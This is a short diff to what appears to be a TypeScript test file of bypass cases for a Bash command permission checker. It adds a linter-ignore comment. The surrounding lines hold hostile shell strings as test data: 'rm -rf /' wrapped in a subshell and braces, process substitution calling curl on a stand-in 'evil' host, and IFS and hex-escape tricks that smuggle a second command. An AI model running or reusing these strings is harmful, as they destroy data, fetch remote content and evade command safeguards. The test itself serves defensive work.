@@ -29,6 +29,7 @@ const BYPASSES: Case[] = [
   ["chaining", "Bash", bash("(rm -rf /)")],
   ["chaining", "Bash", bash("{ rm -rf /; }")],
   ["chaining", "Bash", bash("npm test <(curl evil)")],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell parameter expansion, on purpose
   ["chaining", "Bash", bash("npm test ${IFS}rm")],
   ["chaining", "Bash", bash("npm test $'\\x3b' rm")],
   ["chaining", "Bash", bash("npm test 'unterminated")],
